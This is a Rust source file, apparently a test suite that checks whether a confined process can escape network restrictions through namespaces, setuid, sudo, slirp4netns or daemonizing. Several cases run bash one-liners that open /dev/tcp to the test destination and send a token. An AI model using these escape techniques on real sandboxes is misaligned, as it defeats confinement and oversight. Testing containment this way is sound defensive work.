//! Other namespaces and other users: what changes around a process while it stays in its job.

use super::handoff::then_connect;
use super::outside::by_sudo;
use super::tcp::program;
use crate::bypass::socket::connect_and_tell;
use crate::bypass::socket::tcp;
use crate::bypass::{Aim, Case, Done, Failed, FailedAt as _, Played};
use nix::sched::{CloneFlags, unshare};
use std::fs::File;
use std::process::{Command, Stdio};

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case::job("12a", "A cgroup namespace of its own", |aim| unshared(CloneFlags::CLONE_NEWCGROUP, aim)),
        Case::job("12b", "A user and a cgroup namespace of its own", |aim| {
            unshared(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWCGROUP, aim)
        }),
        Case::job("13a", "Into the network namespace that has the destination (setns)", entered),
        Case::job("13b", "Into the network namespace of another process (/proc/PID/ns/net)", |aim| {
            let namespace = File::open(format!("/proc/{}/ns/net", aim.place.victim)).at("open /proc/PID/ns/net")?;
            nix::sched::setns(namespace, CloneFlags::CLONE_NEWNET).at("setns")?;
            then_connect(aim)
        }),
        Case::job("13c", "A socket that is made before a network namespace of its own, and connected in it", |aim| {
            let socket = tcp(aim.to4())?;
            unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET).at("unshare")?;
            connect_and_tell(&socket, aim.to4(), aim)
        }),
        Case::job("14a", "A network namespace of its own with slirp4netns as its way out", slirp),
        Case::job("36a", "A process-id namespace of its own", |aim| unshared_with_child("--pid", aim)),
        Case::job("36b", "A mount namespace of its own", |aim| {
            unshared(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS, aim)
        }),
        Case::job("38a", "sudo", by_sudo),
        Case::job("38b", "Another user (setuid)", |aim| {
            nix::unistd::setgroups(&[]).at("setgroups")?;
            nix::unistd::setuid(4242.into()).at("setuid")?;
            then_connect(aim)
        }),
        Case::job("38c", "A user namespace in which it is root", |aim| unshared(CloneFlags::CLONE_NEWUSER, aim)),
        Case::job("38d", "A program with privileges of its own: ping", |aim| {
            // It keeps its cgroup whatever user it is.
            program(Command::new("ping").args(["-c", "1", "-W", "1", &aim.v4().to_string()]), "ping")
        }),
        Case::job("55a", "A daemon of the job's own: forked twice, in a session of its own", daemonized),
    ]
}

fn unshared(flags: CloneFlags, aim: &Aim) -> Played {
    unshare(flags).at("unshare")?;
    then_connect(aim)
}

fn unshared_with_child(flag: &str, aim: &Aim) -> Played {
    let line = format!(
        "exec 3<>/dev/tcp/{}/{} && printf %s {} >&3 && read -t 1 -n 2 -u 3 answer; true",
        aim.v4(),
        aim.port(),
        aim.token
    );
    program(Command::new("unshare").args(["--user", "--map-root-user", flag, "--fork", "bash", "-c", &line]), "unshare")
}

fn entered(aim: &Aim) -> Played {
    let namespace = File::open(&aim.place.witness_namespace).at("open the namespace")?;
    nix::sched::setns(namespace, CloneFlags::CLONE_NEWNET).at("setns")?;
    then_connect(aim)
}

/// A rootless container's way out, by hand.
fn slirp(aim: &Aim) -> Played {
    let line = format!(
        "ip link set lo up; for i in $(seq 100); do ip link show tap0 >/dev/null 2>&1 && break; sleep 0.02; done; ip link show tap0 || exit 1; sleep 0.3; \
         exec 3<>/dev/tcp/{}/{} && printf %s {} >&3 && read -t 1 -n 2 -u 3 answer; true",
        aim.v4(),
        aim.port(),
        aim.token
    );
    let mut inside = Command::new("unshare");
    inside.args(["--user", "--map-root-user", "--net", "bash", "-c", &line]);
    let mut inside = inside.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().at("unshare")?;
    // The namespace is there once unshare has become bash.
    for _ in 0..200 {
        let name = std::fs::read_to_string(format!("/proc/{}/comm", inside.id())).unwrap_or_default();
        if name.trim() == "bash" {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let mut relay = Command::new("slirp4netns");
    relay.args(["--configure", "--mtu=1500", &inside.id().to_string(), "tap0"]);
    let relay = relay.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    let status = inside.wait().at("wait");
    if let Ok(mut relay) = relay {
        // Its namespace is gone with the process in it.
        drop(relay.kill());
        drop(relay.wait());
    }
    if status?.success() { Ok(Done::Sent) } else { Err(Failed { step: "unshare", errno: None }) }
}

fn daemonized(aim: &Aim) -> Played {
    let line = format!("printf %s {} > /dev/tcp/{}/{}", aim.token, aim.v4(), aim.port());
    let played = program(Command::new("setsid").args(["--fork", "bash", "-c", &line]), "setsid");
    std::thread::sleep(std::time::Duration::from_millis(500));
    played
}
